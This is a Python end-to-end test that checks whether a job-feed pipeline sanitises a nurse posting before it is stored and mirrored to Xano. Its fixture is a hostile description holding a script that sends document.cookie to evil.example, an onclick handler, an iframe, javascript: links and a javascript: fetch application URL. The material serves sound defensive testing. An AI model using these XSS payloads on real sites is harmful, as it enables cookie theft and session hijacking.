"""Clean output through all four services: a posting whose description carries scripts,
event handlers and a javascript: link, and whose application URL is javascript:, is stored
and mirrored to Xano sanitised, without that URL."""

from __future__ import annotations

import json
import urllib.request
import uuid
from pathlib import Path
from typing import Any

import asyncpg
import pytest

from cli import control
from cli.pipeline import PipelineConfig
from cli.stack import StackInfo

pytestmark = pytest.mark.e2e

RUN_TIMEOUT_S = 120.0
MAPPING = {
    "mappings": {
        "title": "title",
        "company": "company_name",
        "description": "description",
        "url": "application_url",
        "referencenumber": "external_job_id",
        "city": "city",
        "state": "state",
        "country": "country",
        "jobtype": "employment_type",
    }
}
# the sample feed's approved nurse posting, with what must never reach a job board
HOSTILE = (
    '<p onclick="steal()"><strong>{company}</strong> is hiring a Registered Nurse for our '
    "24-bed Cardiac ICU.</p><script>document.location='https://evil.example/?'+document.cookie"
    "</script><ul><li>Three 12-hour shifts per week, rotating weekends</li><li>BLS and ACLS "
    "required; CCRN preferred</li><li>Minimum 2 years of acute care experience</li></ul>"
    '<iframe src="https://evil.example/frame"></iframe><p>We offer tuition reimbursement, a '
    "clinical ladder and full benefits from day one. "
    '<a href="javascript:alert(1)">Apply</a> or <a href="https://careers.example/44821">read '
    "more</a></p>"
)


def _feed(tmp_path: Path) -> tuple[Path, str]:
    company = f"Riverside Health System {uuid.uuid4().hex[:8]}"
    job = (
        "<job><title><![CDATA[Registered Nurse - Cardiac ICU]]></title>"
        "<referencenumber>RHS-1</referencenumber>"
        "<url><![CDATA[javascript:fetch('https://evil.example')]]></url>"
        f"<company><![CDATA[{company}]]></company>"
        "<city>Boston</city><state>MA</state><country>United States</country>"
        f"<description><![CDATA[{HOSTILE.format(company=company)}]]></description>"
        "<jobtype>Full-time</jobtype></job>"
    )
    path = tmp_path / f"hostile-{uuid.uuid4().hex[:8]}.xml"
    path.write_text(f'<?xml version="1.0" encoding="utf-8"?>\n<source>{job}</source>\n')
    return path, company


def _xano_records(config: PipelineConfig, feed_id: int) -> list[dict[str, Any]]:
    url = f"http://127.0.0.1:{config.xano_port}/__admin/records?feed_id={feed_id}"
    with urllib.request.urlopen(url, timeout=5) as answer:
        body = json.load(answer)
    return list(body["records"] if isinstance(body, dict) else body)


def _assert_clean(description: str) -> None:
    assert "is hiring a Registered Nurse" in description and "<li>" in description
    assert '<a href="https://careers.example/44821"' in description
    for gone in ("script", "cookie", "onclick", "iframe", "evil.example", "javascript"):
        assert gone not in description, gone


async def test_xano_and_the_job_tables_receive_only_clean_output(
    stack: StackInfo, running_pipeline: PipelineConfig, tmp_path: Path
) -> None:
    path, _ = _feed(tmp_path)
    feed_id = await control.ensure_feed(
        stack.dsn, name=path.stem, source_url=str(path), mapping=MAPPING
    )
    run_id = await control.request_run(stack.bootstrap, feed_id)
    report = await control.wait_for_report(stack.dsn, run_id, timeout_s=RUN_TIMEOUT_S, synced=True)
    assert report.jobs_auto_approved == 1, report

    conn = await asyncpg.connect(stack.dsn)
    try:
        stored = await conn.fetchrow(
            "SELECT description, application_url FROM open_jobs WHERE feed_id = $1", feed_id
        )
    finally:
        await conn.close()
    assert stored is not None and stored["application_url"] is None
    _assert_clean(stored["description"])

    [sent] = _xano_records(running_pipeline, feed_id)
    assert sent["application_url"] is None
    _assert_clean(sent["description"])
